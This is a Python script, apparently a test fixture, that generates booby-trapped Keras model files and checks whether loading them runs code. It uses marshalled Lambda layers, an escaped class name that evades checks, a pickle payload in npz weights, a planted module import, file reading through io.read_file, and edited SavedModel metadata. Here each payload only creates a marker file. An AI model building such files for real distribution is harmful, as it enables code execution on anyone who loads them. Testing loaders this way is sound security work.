"""Writes model files that run code, or do other harm, if Keras opens them without a check.

Run as a program, in a folder of its own and with eager execution on, it writes them, opens each with plain Keras
and prints the names of those that left the file `ran` behind: so the payloads are real.
"""

from __future__ import annotations

import importlib.metadata
import io
import json
import os
import sys
import zipfile
from pathlib import Path
from typing import Any

import h5py
import numpy as np

MARKER = "ran"
KERAS = importlib.metadata.version("keras")
KERAS_3 = int(KERAS.split(".")[0]) >= 3


def payload(inputs: Any) -> Any:
    from pathlib import Path

    Path("ran").touch()
    return inputs


class Pickled:
    """Leaves the marker behind when it is unpickled."""

    def __reduce__(self) -> tuple:
        return os.open, (MARKER, os.O_CREAT)


def entry(kind: str, config: dict[str, Any], **rest: Any) -> dict[str, Any]:
    return {"class_name": kind, "config": config, **rest}


def lambda_layer(name: str = "evil") -> dict[str, Any]:
    """A Lambda layer as Keras writes it."""
    from tensorflow import keras

    if KERAS_3:  # writes code only of functions without a name
        touch = 'open("ran", "w")'
        evil = eval(f"lambda inputs: ({touch}, inputs)[1]")
        return entry("Lambda", keras.layers.Lambda(evil, name=name).get_config())
    code = keras.layers.Lambda(payload, name=name).get_config()
    code.update(function_type="lambda", function=marshalled(payload), module="builtins")
    return entry("Lambda", code)


def marshalled(function: Any) -> list:
    from keras.src.utils.generic_utils import func_dump

    return list(func_dump(function))


def network(*layers: dict[str, Any], shape: tuple = (None, 4), dtype: str = "float32") -> dict[str, Any]:
    """A Sequential model as Keras writes it into `.h5` files."""
    first = entry("InputLayer", {"batch_input_shape": list(shape), "dtype": dtype, "name": "input"})
    return entry("Sequential", {"name": "net", "layers": [first, *layers]})


def functional_of(operation: str) -> dict[str, Any]:
    """The configuration of a functional model that is one operation on strings."""
    (first,) = network(shape=(), dtype="string")["config"]["layers"]
    layer = entry("TFOpLambda", {"name": "operation", "function": operation})
    nodes = {"name": "operation", "inbound_nodes": [["input", 0, 0, {}]]}
    return {
        "name": "net",
        "layers": [{**first, "name": "input", "inbound_nodes": []}, {**layer, **nodes}],
        "input_layers": [["input", 0, 0]],
        "output_layers": [["operation", 0, 0]],
    }


def of_keras_3_format(config: Any) -> Any:
    """The same configuration as Keras writes it into `.keras` files, with the module of each class."""
    if isinstance(config, list):
        return [of_keras_3_format(value) for value in config]
    if not isinstance(config, dict):
        return config
    inner = {key: of_keras_3_format(value) for key, value in config.items()}
    if isinstance(inner.get("class_name"), str) and not inner["class_name"].startswith("__"):
        home = "keras" if inner["class_name"] == "Sequential" else "keras.layers"
        inner = {"module": home, "registered_name": None, **inner}
    return inner


def write_h5(path: str | Path, config: str | dict[str, Any], version: str = "2.14.0") -> None:
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = config if isinstance(config, str) else json.dumps(config)
        file.attrs["keras_version"] = version
        file.attrs["backend"] = "tensorflow"
        weights = file.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([], "S1")
        weights.attrs["keras_version"] = version


def write_keras(path: str | Path, config: dict[str, Any], version: str = KERAS, **entries: bytes) -> None:
    """Writes a `.keras` file; `entries` are added or replace its own, by name with __ for the dot."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w"):
        pass
    content = {
        "metadata.json": json.dumps({"keras_version": version}).encode(),
        "config.json": json.dumps(config).encode(),
        "model.weights.h5": buffer.getvalue(),
    }
    content.update({name.replace("__", "."): value for name, value in entries.items()})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, value in content.items():
            if value:
                archive.writestr(name, value)


def write_all() -> None:
    """Writes all files that run code into the current folder."""
    evil = lambda_layer()
    escaped = json.dumps(network(evil)).replace('"Lambda"', r'"\u004cambda"')
    write_h5("lambda.h5", network(evil))
    write_h5("escaped.h5", escaped)
    write_h5("deep.h5", network(entry("Sequential", {"name": "inner", "layers": [evil]})))
    write_h5(
        "distributed.h5", network(entry("TimeDistributed", {"layer": evil, "name": "td"}), shape=(None, 3, 4))
    )

    write_keras("bidirectional.keras", of_keras_3_format(network(entry("Bidirectional", {"layer": evil}))))
    write_keras("lambda.keras", of_keras_3_format(network(evil)))
    Path("evil_module.py").write_text("from pathlib import Path\nPath('ran').touch()\n")
    write_keras("module.keras", {"module": "evil_module", **entry("Dense", {}, registered_name="Dense")})
    pickled = io.BytesIO()
    np.savez(pickled, __root__=np.array([Pickled()], object))
    dense = network(entry("Dense", {"units": 2, "name": "dense"}))
    weights = {"model__weights__h5": b"", "model__weights__npz": pickled.getvalue()}
    write_keras("pickled.keras", of_keras_3_format(dense), **weights)
    write_h5("operation.h5", entry("Functional", functional_of("io.read_file")))

    if not KERAS_3:  # cannot read SavedModels
        write_saved_models(evil)


def write_saved_models(evil: dict[str, Any]) -> None:
    import tensorflow as tf
    from keras.protobuf.saved_metadata_pb2 import SavedMetadata
    from tensorflow import keras

    x = keras.Input((4,))
    keras.Model(x, keras.layers.Dense(2, name="evil")(x)).save("escaped-saved")
    metadata = SavedMetadata.FromString(Path("escaped-saved/keras_metadata.pb").read_bytes())
    for node in metadata.nodes:
        content = json.loads(node.metadata)
        if content["class_name"] == "Dense":
            content.update({**evil, "name": "evil", "must_restore_from_config": True})
            node.metadata = json.dumps(content).replace('"Lambda"', r'"\u004cambda"')
    Path("escaped-saved/keras_metadata.pb").write_bytes(metadata.SerializeToString())

    class Writing(keras.layers.Layer):
        def call(self, inputs: Any) -> Any:
            with tf.control_dependencies([tf.io.write_file(MARKER, "evil")]):
                return tf.identity(inputs)

    keras.Model(x, Writing(name="writing")(x)).save("operation-saved")


PROVEN: dict[str, dict[str, Any]] = {
    "lambda.h5": {},
    "escaped.h5": {},
    "deep.h5": {},
    "distributed.h5": {},
    "lambda.keras": {"safe_mode": False},
    "module.keras": {},
    "pickled.keras": {},
    "operation.h5": {},
    "escaped-saved": {},
    "operation-saved": {},
}
"""Files that do harm when plain Keras opens them, and options with which it does."""
if KERAS_3:
    PROVEN = {name: {"safe_mode": False} for name in ("lambda.h5", "escaped.h5", "deep.h5", "lambda.keras")}


def does_harm(name: str, options: dict[str, Any]) -> bool:
    """Whether a payload runs when plain Keras opens a file and the model is used."""
    import tensorflow as tf
    from tensorflow import keras

    try:
        model = keras.models.load_model(name, compile=False, **options)
        if name == "operation.h5":
            return b"touch" in model(tf.constant("evil_module.py")).numpy()  # it read another file
        model(tf.zeros((1, *model.input_shape[1:])))
    except Exception as error:
        print(f"{name}: {type(error).__name__}: {str(error)[:200]}")
    ran = Path(MARKER).exists()
    Path(MARKER).unlink(missing_ok=True)
    return ran


if __name__ == "__main__":
    write_all()
    Path(MARKER).unlink(missing_ok=True)
    sys.path.append(".")  # as in a notebook
    for name, options in PROVEN.items():
        if does_harm(name, options):
            print(f"ran: {name}")
